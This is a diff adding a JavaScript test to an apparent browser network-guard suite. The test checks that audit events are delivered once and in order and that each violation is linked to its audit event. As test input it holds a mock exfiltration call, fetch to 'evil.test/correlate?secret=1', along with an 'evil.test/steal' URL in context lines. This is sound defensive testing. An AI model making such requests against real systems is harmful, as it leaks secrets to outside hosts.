@@ -204,3 +204,24 @@ test('guard.check decides without requesting; the audit trail records requests w
   assert.ok(result.audit.every((event) => !event.url.includes('?')));
   assert.ok(result.audit.some((event) => event.url === 'https://evil.test/steal' && !event.allowed));
 });
+
+test('the audit sink receives each event once, and a violation carries its audit event as id', async () => {
+  const result = await inPage(async () => {
+    const guard = await guardReady;
+    violations.length = 0;
+    const before = auditEvents.length;
+    await attempt(() => fetch('https://evil.test/correlate?secret=1'));
+    return {
+      violation: violations[0],
+      delivered: auditEvents.slice(before),
+      seqs: auditEvents.map((event) => event.seq),
+      exported: JSON.parse(guard.exportAudit()).length === guard.audit().length,
+    };
+  });
+  const event = result.delivered.find((e) => e.seq === result.violation.id);
+  assert.ok(event, JSON.stringify(result));
+  assert.equal(event.url, 'https://evil.test/correlate');
+  assert.equal(event.allowed, false);
+  assert.deepEqual(result.seqs, [...new Set(result.seqs)].sort((a, b) => a - b), 'each event once, in order');
+  assert.equal(result.exported, true);
+});
